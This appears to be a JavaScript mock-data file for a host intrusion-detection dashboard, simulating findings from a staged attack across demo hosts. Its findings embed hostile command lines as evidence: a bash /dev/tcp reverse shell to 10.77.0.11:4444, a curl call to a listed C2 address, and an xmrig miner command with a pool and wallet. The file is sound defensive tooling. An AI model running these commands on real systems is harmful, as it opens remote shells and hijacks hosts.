// The data of the mock brain: a demonstration fleet after an attack over three hosts.

const NOW = Date.now();

export const at = (secondsAgo) => new Date(NOW - secondsAgo * 1000).toISOString();

const HOSTS = [
  ["web-1", "web", "6f1d2a52-6d5e-4a0e-9d3e-4b5f0b7f1a01"],
  ["app-1", "app", "6f1d2a52-6d5e-4a0e-9d3e-4b5f0b7f1a02"],
  ["db-1", "db", "6f1d2a52-6d5e-4a0e-9d3e-4b5f0b7f1a03"],
  ["batch-7.internal.example", "batch", "6f1d2a52-6d5e-4a0e-9d3e-4b5f0b7f1a04"],
];

const hostOf = (name) => {
  const [host, role, id] = HOSTS.find((entry) => entry[0] === name);
  return { id, name: host, role };
};

export function process(pid, executable, commandLine, more = {}) {
  return {
    pid,
    start_time: at(600 - (pid % 500)),
    executable,
    command_line: commandLine,
    name: executable.split("/").at(-1),
    user: "root",
    uid: 0,
    euid: 0,
    cgroup: "/smk-demo/app-1",
    container: null,
    flags: [],
    ...more,
  };
}

const INIT = process(1, "/usr/lib/systemd/systemd", "/sbin/init", { start_time: at(86_400) });
const SSHD = process(812, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups");
const NGINX = process(2201, "/usr/sbin/nginx", "nginx: worker process", { user: "www-data", uid: 33, euid: 33 });
const SHELL = process(2290, "/usr/bin/dash", "sh -c 'bash -c \"bash -i >& /dev/tcp/10.77.0.11/4444 0>&1\"'", {
  user: "www-data",
  uid: 33,
  euid: 33,
});

let serial = 0;

export function finding(type, host, severity, title, more = {}) {
  serial += 1;
  const label = severity < 4 ? "low" : severity < 7 ? "medium" : severity < 9 ? "high" : "critical";
  return {
    id: `f-01JDB${String(serial).padStart(5, "0")}QK7M3X`,
    type,
    guardduty_type: null,
    severity,
    severity_label: label,
    title,
    description: "What was seen, and why it matters.",
    remediation: "What to do first.",
    host: hostOf(host),
    state: "open",
    count: 1,
    first_seen: at(40 + serial),
    last_seen: at(30 + serial),
    process: null,
    lineage: [],
    actors: [],
    evidence: [],
    evidence_dropped: 0,
    mitre: [],
    policy: {
      id: type.split("/").at(-1).replace(/(?<=[a-z])(?=[A-Z])/g, "-").toLowerCase(),
      file: "detectors/reverse_shell.yml",
      revision: "b1946ac92492d2347c6235b4d2611184",
      author: null,
    },
    exactness: "exact",
    coverage: { state: "complete", detail: "All signals that this finding needs were attached and lost nothing." },
    dedup_key: `${type}|${host}`,
    history: [{ time: at(40 + serial), user: null, state: "open", note: null }],
    ...more,
  };
}

const evidence = (secondsAgo, kind, summary, fields) => ({ time: at(secondsAgo), kind, summary, fields });

export const findings = [
  finding("CommandAndControl:Host/ListedAddress", "app-1", 8.5, "Connection from curl to the listed address 203.0.113.66:443 on app-1", {
    guardduty_type: "Backdoor:Runtime/C&CActivity.B",
    description: "A process connected to an address that a threat feed lists. Malware calls its operator this way.",
    remediation: "Isolate the host from the network, keep its memory, then look at what started the process.",
    process: process(2412, "/usr/bin/curl", "curl -sk https://203.0.113.66/gate.php"),
    lineage: [process(2301, "/usr/bin/bash", "bash -i"), SHELL, NGINX, INIT],
    actors: [{ kind: "address", value: "203.0.113.66" }],
    evidence: [
      evidence(44, "connection", "curl connected to 203.0.113.66:443", { remote_address: "203.0.113.66", remote_port: 443, protocol: "tcp" }),
      evidence(43, "flow", "12 packets out, 9 packets in", { packets_out: 12, bytes_out: 1840, packets_in: 9, bytes_in: 4410 }),
    ],
    mitre: [{ tactic: "Command and Control", technique: "T1071.001", name: "Web Protocols" }],
    policy: { id: "listed-address", file: "detectors/listed_address.yml", revision: "b1946ac92492", author: null },
    count: 3,
  }),
  finding("Impact:Host/CryptoMinerExecuted", "app-1", 7.5, "xmrig was started with a miner's command line on app-1", {
    guardduty_type: "Impact:Runtime/CryptoMinerExecuted",
    process: process(2398, "/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x"),
    lineage: [process(2301, "/usr/bin/bash", "bash -i"), SHELL, NGINX, INIT],
    evidence: [evidence(52, "exec", "/tmp/xmrig was executed", { executable: "/tmp/xmrig", matched: "CommandLine|contains stratum+tcp://" })],
    mitre: [{ tactic: "Impact", technique: "T1496.001", name: "Compute Hijacking" }],
    policy: { id: "miner-command-line", file: "sigma/miner_command_line.yml", revision: "b1946ac92492", author: "Sakuramori" },
  }),
  finding("DefenseEvasion:Host/FilelessExecution", "app-1", 8.0, "A program was executed from memory by python3 on app-1", {
    guardduty_type: "DefenseEvasion:Runtime/FilelessExecution",
    process: process(2377, "memfd:stage2 (deleted)", "[kworker/0:2]", { name: "stage2", flags: ["memfd"] }),
    lineage: [process(2371, "/usr/bin/python3.11", "python3 -"), process(2301, "/usr/bin/bash", "bash -i"), SHELL, NGINX, INIT],
    evidence: [evidence(60, "exec", "The image of pid 2377 is an anonymous file in memory", { executable: "memfd:stage2", anonymous: true })],
    mitre: [
      { tactic: "Defense Evasion", technique: "T1620", name: "Reflective Code Loading" },
      { tactic: "Defense Evasion", technique: "T1036.004", name: "Masquerade Task or Service" },
    ],
  }),
  finding("Execution:Host/ReverseShell", "app-1", 9.2, "Reverse shell from bash to 10.77.0.11:4444 on app-1", {
    guardduty_type: "Execution:Runtime/ReverseShell",
    description:
      "A shell's input and output are one network connection: whoever is at the other end types commands on this host. Legitimate programs hardly ever do this.",
    remediation:
      "Cut the connection to 10.77.0.11, keep the process for inspection, and look at its parent to learn how the attacker came in.",
    process: process(2301, "/usr/bin/bash", "bash -i", { flags: ["args_truncated"] }),
    lineage: [
      process(2296, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.77.0.11/4444 0>&1'"),
      SHELL,
      NGINX,
      process(2200, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"),
      INIT,
    ],
    actors: [
      { kind: "address", value: "10.77.0.11" },
      { kind: "process", value: "bash (2301)" },
      { kind: "user", value: "root" },
    ],
    count: 4,
    evidence: [
      evidence(75, "exec", "bash -c was started by sh", { pid: 2296, parent: "sh (2290)" }),
      evidence(74.8, "connection", "bash connected to 10.77.0.11:4444", { local_address: "10.77.0.12", local_port: 51422, remote_address: "10.77.0.11", remote_port: 4444, isn: 3735928559 }),
      evidence(74.7, "exec", "bash -i had its standard input, output and error on a socket to 10.77.0.11:4444", { descriptors: [0, 1, 2], remote_address: "10.77.0.11", remote_port: 4444, through: null }),
      evidence(71.2, "exec", "id was executed in the shell", { command_line: "id" }),
      evidence(66.1, "flow", "38 packets out, 41 packets in over 9 s", { packets_out: 38, packets_in: 41, bytes_out: 5120, bytes_in: 2604 }),
    ],
    evidence_dropped: 17,
    mitre: [
      { tactic: "Execution", technique: "T1059.004", name: "Unix Shell" },
      { tactic: "Command and Control", technique: "T1095", name: "Non-Application Layer Protocol" },
    ],
    policy: { id: "reverse-shell", file: "detectors/reverse_shell.yml", revision: "b1946ac92492d2347c6235b4d2611184", author: "Sakuramori" },
    coverage: { state: "partial", detail: "Syscalls were sampled for 2 s of each 30 s on app-1; every other signal was complete." },
  }),
  finding("Discovery:Host/PortScan", "web-1", 5.0, "actor on web-1 tried 128 ports of 10.77.0.12", {
    guardduty_type: "Recon:EC2/Portscan",
    description: "One process tried many ports of one host within a short time, which is how an attacker learns what runs there.",
    process: process(1904, "/usr/local/bin/actor", "actor scan 10.77.0.12 10.77.0.13 --ports 1-128"),
    lineage: [process(1880, "/usr/bin/bash", "-bash"), SSHD, INIT],
    actors: [{ kind: "process", value: "actor (1904)" }, { kind: "address", value: "10.77.0.11" }],
    count: 256,
    evidence: [evidence(96, "flow", "128 distinct ports of 10.77.0.12 within 2 s", { distinct_ports: 128, window_seconds: 2, answered: 3 })],
    mitre: [{ tactic: "Discovery", technique: "T1046", name: "Network Service Discovery" }],
    exactness: "sketch",
  }),
  finding("Discovery:Host/PortSweep", "web-1", 5.5, "actor on web-1 tried port 22 on 2 hosts", {
    guardduty_type: "Impact:EC2/PortSweep",
    process: process(1904, "/usr/local/bin/actor", "actor scan 10.77.0.12 10.77.0.13 --ports 1-128"),
    exactness: "sketch",
  }),
  finding("Discovery:Host/PortProbed", "db-1", 2.0, "128 ports of db-1 were tried by 10.77.0.11", {
    actors: [{ kind: "address", value: "10.77.0.11" }],
    evidence: [evidence(95, "flow", "128 distinct ports were tried by 10.77.0.11", { distinct_ports: 128 })],
    exactness: "gap",
    coverage: { state: "unknown", detail: "db-1 was not connected for 12 s within this span." },
  }),
  finding("Discovery:Host/PortProbed", "app-1", 2.0, "128 ports of app-1 were tried by 10.77.0.11", {
    state: "acknowledged",
    history: [
      { time: at(60), user: null, state: "open", note: null },
      { time: at(20), user: "admin", state: "acknowledged", note: "Part of the intrusion on web-1.\nFollowing it there." },
    ],
  }),
  finding("DefenseEvasion:Host/KernelModuleLoaded", "batch-7.internal.example", 6.5, "The kernel module nf_tables was loaded on batch-7.internal.example", {
    guardduty_type: "DefenseEvasion:Runtime/KernelModuleLoaded",
    state: "archived",
    first_seen: at(90_000),
    last_seen: at(90_000),
    process: process(412, "/usr/bin/kmod", "modprobe nf_tables"),
    lineage: [INIT],
  }),
];

const hook = (name, attached, reason = null) => ({ name, attached, reason });

function coverage(quiet) {
  return {
    hooks: [
      hook("flow ingress", "xdp native on eth0"),
      hook("flow egress", "tc clsact egress on eth0"),
      hook("exec", "tracepoint sched/sched_process_exec"),
      hook("fork", "tracepoint sched/sched_process_fork"),
      hook("exit", "tracepoint sched/sched_process_exit"),
      hook("socket", "tracepoint sock/inet_sock_set_state"),
      hook("syscalls", "tracepoint raw_syscalls/sys_enter", "On for 2 s of each 30 s, because it slows every syscall."),
      hook("module", null, "This kernel has no kprobes, and the tracepoint module/module_load is not built in: loaded kernel modules are not seen."),
    ],
    ledger: [
      { signal: "flow", seen: 1_204_331, delivered: 1_204_331, lost: [] },
      { signal: "exec", seen: 4_821, delivered: quiet ? 4_821 : 4_790, lost: quiet ? [] : [{ reason: "ring_full", count: 31 }] },
      { signal: "fork", seen: 5_012, delivered: 5_010, lost: [] },
      { signal: "socket", seen: 88_410, delivered: quiet ? 88_410 : 87_920, lost: quiet ? [] : [{ reason: "map_full", count: 402 }, { reason: "decode_error", count: 88 }] },
      { signal: "syscalls", seen: 9_120_441, delivered: 9_120_441, lost: [] },
    ],
    drain_lag_ms: 3.4,
    cpu_percent: 0.62,
    memory_bytes: 24_117_248,
    updated: at(2),
  };
}

export const hosts = HOSTS.map(([name, role, id], index) => ({
  id,
  name,
  role,
  state: index === 3 ? "offline" : "online",
  degraded: index === 1,
  connected_since: index === 3 ? null : at(700 + index),
  last_seen: index === 3 ? at(4_000) : at(1),
  address: index === 3 ? null : `127.0.0.1:${41_200 + index}`,
  sensor_version: "0.1.0",
  kernel: "6.12.43+deb13-amd64",
  boot_id: "0f9d8c1e-52a7-4f9e-9a55-1c2d3e4f5a6b",
  cpus: 4,
  clock_offset_ms: [0.4, -3_600_012.3, 0.01, null][index],
  clock_error_ms: [0.9, 3.1, 0.2, null][index],
  clock_wrong: [false, true, false, null][index],
  clock_steps: index === 1 ? 2 : 0,
  clock_stepped: index === 1 ? at(90) : null,
  coverage: index === 3 ? null : coverage(index !== 1),
  records_per_second: index === 3 ? 0 : 120.5 / (index + 1),
  findings_open: findings.filter((each) => each.host.name === name && each.state === "open").length,
}));

export const tokens = [
  { id: "9f3c2b1a00d4e5f6", role: "web", uses_left: 1, expires: at(-80_000), created: at(6_400) },
  { id: "17aa90cc41b2d3e4", role: "batch", uses_left: 40, expires: at(-500_000), created: at(100_000) },
];
